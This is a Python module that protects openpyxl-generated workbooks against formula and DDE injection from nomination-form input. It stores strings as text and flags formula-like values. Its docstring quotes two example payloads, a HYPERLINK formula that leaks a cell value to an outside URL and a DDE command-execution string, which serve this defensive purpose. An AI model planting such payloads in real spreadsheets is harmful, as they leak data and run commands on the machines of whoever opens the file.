"""Cells written as text: a value from a mail never becomes a formula in a workbook the council opens.

openpyxl turns any str starting with "=" into a formula (an <f> element Excel evaluates on open),
so `=HYPERLINK("http://…?leak="&B7)` or `=cmd|' /C calc'!A0` typed in a nomination form would run.
Every str goes through `write_text`: the cell is forced to a string cell (written as an inline
string, no <f>), and values Excel would read as a formula once someone edits the cell (leading
=, +, -, @, tab, CR, LF; also their full-width forms, which Excel folds) get the quotePrefix style
flag, the same flag Excel sets when a person types an apostrophe first: shown as typed, kept as text.
The value itself is kept intact, except characters the xlsx format cannot hold (C0 controls),
which openpyxl would refuse with an error and so stop the whole report.
"""

from __future__ import annotations

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.worksheet.worksheet import Worksheet

# What spreadsheet programs take as the start of a formula or a DDE call (OWASP's CSV-injection list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def looks_like_formula(text: str) -> bool:
    """True when a spreadsheet would treat this text, typed into a cell, as a formula."""
    return text.lstrip(" ").startswith(FORMULA_STARTS)


def write_cell(sheet: Worksheet, row: int, column: int, value: object) -> Cell:
    """The cell at (row, column) holding `value`; a str is always stored as text, never as a formula."""
    cell = sheet.cell(row=row, column=column)
    if not isinstance(cell, Cell):
        raise TypeError(f"{sheet.title}!{cell.coordinate} is inside a merged range")  # layout bug, not data
    if isinstance(value, str):
        write_text(cell, value)
    else:
        cell.value = value  # type: ignore[assignment]  # numbers and dates of our own making
    return cell


def write_text(cell: Cell, text: str) -> None:
    """Store `text` as a string cell: openpyxl infers "f" (formula) or "e" (error) from the text itself."""
    cell.value = ILLEGAL_CHARACTERS_RE.sub("", text)
    cell.data_type = "s"  # overrides the inference; the writer then emits an inline string, no <f>


def mark_formula_like(cell: Cell) -> None:
    """Call after the cell's style is set (a named style resets the flag)."""
    if cell.data_type == "s" and isinstance(cell.value, str) and looks_like_formula(cell.value):
        cell.quotePrefix = True
